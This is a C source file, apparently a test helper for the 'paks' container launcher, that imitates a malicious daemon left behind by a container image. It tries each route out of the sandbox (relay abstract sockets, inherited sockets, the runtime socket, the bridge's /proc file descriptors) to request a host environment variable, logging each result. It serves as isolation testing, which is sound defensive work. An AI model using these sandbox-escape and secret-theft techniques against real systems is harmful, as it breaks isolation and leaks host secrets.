/* SPDX-License-Identifier: MIT */
/*
 * Stand-in for a daemon that image code leaves behind in a paks container
 * (an entrypoint's `daemon & exec "$@"`): it tries each way to the
 * session's connection and asks for a host variable on whatever it finds.
 * Built static by the tests, so it runs in any image.
 *
 *   steal OUT VAR   try:
 *     take  the launcher's relay (the abstract @paks-take-* socket), at
 *           once, while the relay still waits for the shell;
 *     fdN   every socket it inherited, after a second;
 *     sock  the runtime directory's socket;
 *     bridge  an engine elsewhere: the launcher's rendezvous
 *           (/dev/.paks-bridge/sock), and the bridge's stdin and stdout
 *           through /proc (its stream to paks): "route bridge: opened"
 *           when it could write there, and a request goes in;
 *   and append what each answered to OUT, then "steal done".
 */
#define _GNU_SOURCE
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <poll.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void frame(int fd, uint32_t type, const char *p)
{
	uint32_t len = (uint32_t)strlen(p);
	unsigned char h[8] = {type & 255, 0, 0, 0, len & 255, len >> 8, 0, 0};

	(void)!write(fd, h, 8);
	(void)!write(fd, p, len);
}

static void try(int fd, const char *route, const char *var, FILE *out)
{
	char line[256], buf[4096];
	struct pollfd p = {fd, POLLIN, 0};
	ssize_t n;

	snprintf(line, sizeof(line), "#envhost %s", var);
	frame(fd, 2, "/");
	frame(fd, 3, line);
	fprintf(out, "route %s:\n", route);
	while (poll(&p, 1, 2000) > 0 && (n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, out);
	fputc('\n', out);
	fflush(out);
}

static int recv_fd(int s)
{
	char b;
	struct iovec iov = {&b, 1};
	char ctl[CMSG_SPACE(sizeof(int))];
	struct msghdr m = {0};
	struct cmsghdr *c;
	int fd = -1;

	m.msg_iov = &iov;
	m.msg_iovlen = 1;
	m.msg_control = ctl;
	m.msg_controllen = sizeof(ctl);
	if (recvmsg(s, &m, 0) != 1)
		return -1;
	c = CMSG_FIRSTHDR(&m);
	if (c && c->cmsg_type == SCM_RIGHTS)
		memcpy(&fd, CMSG_DATA(c), sizeof(int));
	return fd;
}

/* The relay's abstract sockets, from /proc/net/unix: 1 when one was
 * there. */
static int try_take(const char *var, FILE *out)
{
	FILE *f = fopen("/proc/net/unix", "r");
	char l[512];
	int found = 0;

	while (f && fgets(l, sizeof(l), f)) {
		char *at = strstr(l, "@paks-take-");
		struct sockaddr_un sa = {.sun_family = AF_UNIX};
		socklen_t len;
		int s, fd;
		if (!at)
			continue;
		found = 1;
		at[strcspn(at, "\n")] = '\0';
		snprintf(sa.sun_path + 1, sizeof(sa.sun_path) - 1, "%s", at + 1);
		len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 +
				  strlen(at + 1));
		s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
		if (connect(s, (struct sockaddr *)&sa, len) < 0) {
			fprintf(out, "route take: cannot connect\n");
			close(s);
			continue;
		}
		fd = recv_fd(s);
		fprintf(out, "route take: %s\n", fd < 0 ? "refused" : "got it");
		if (fd >= 0)
			try(fd, "take", var, out);
		close(s);
	}
	if (f)
		fclose(f);
	return found;
}

/* The bridge (paks-launch --paks-bridge): its rendezvous, and its stream
 * to paks through /proc/PID/fd. */
static void try_bridge(const char *var, FILE *out)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	DIR *d = opendir("/proc");
	struct dirent *e;
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(sa.sun_path, sizeof(sa.sun_path), "/dev/.paks-bridge/sock");
	if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0)
		try(s, "rendezvous", var, out);
	while (d && (e = readdir(d))) {
		char path[300], cmd[256] = "";
		FILE *f;
		size_t n;
		if (atoi(e->d_name) <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", e->d_name);
		f = fopen(path, "r");
		n = f ? fread(cmd, 1, sizeof(cmd) - 1, f) : 0;
		if (f)
			fclose(f);
		if (!memmem(cmd, n, "--paks-bridge", 13))
			continue;
		fprintf(out, "route bridge: found %s\n", e->d_name);
		for (int fd = 0; fd < 2; fd++) {
			int w;
			snprintf(path, sizeof(path), "/proc/%s/fd/%d", e->d_name,
				 fd);
			w = open(path, O_WRONLY | O_NONBLOCK);
			if (w >= 0) {
				fprintf(out, "route bridge: opened fd %d\n", fd);
				try(w, "bridge", var, out);
				close(w);
			}
		}
	}
	if (d)
		closedir(d);
}

int main(int argc, char **argv)
{
	FILE *out;
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	int s;

	if (argc != 3)
		return 2;
	out = fopen(argv[1], "a");
	if (!out)
		return 1;
	for (int i = 0; i < 300 && !try_take(argv[2], out); i++) {
		if (i == 299)
			fprintf(out, "route take: none\n");
		fflush(out);
		usleep(10000);
	}
	sleep(1);
	for (int fd = 0; fd < 1024; fd++) {
		struct stat st;
		char route[16];
		if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) {
			snprintf(route, sizeof(route), "fd%d", fd);
			try(fd, route, argv[2], out);
		}
	}
	snprintf(sa.sun_path, sizeof(sa.sun_path), "/dev/.paks/sock");
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0)
		try(s, "sock", argv[2], out);
	try_bridge(argv[2], out);
	fprintf(out, "steal done\n");
	fclose(out);
	return 0;
}
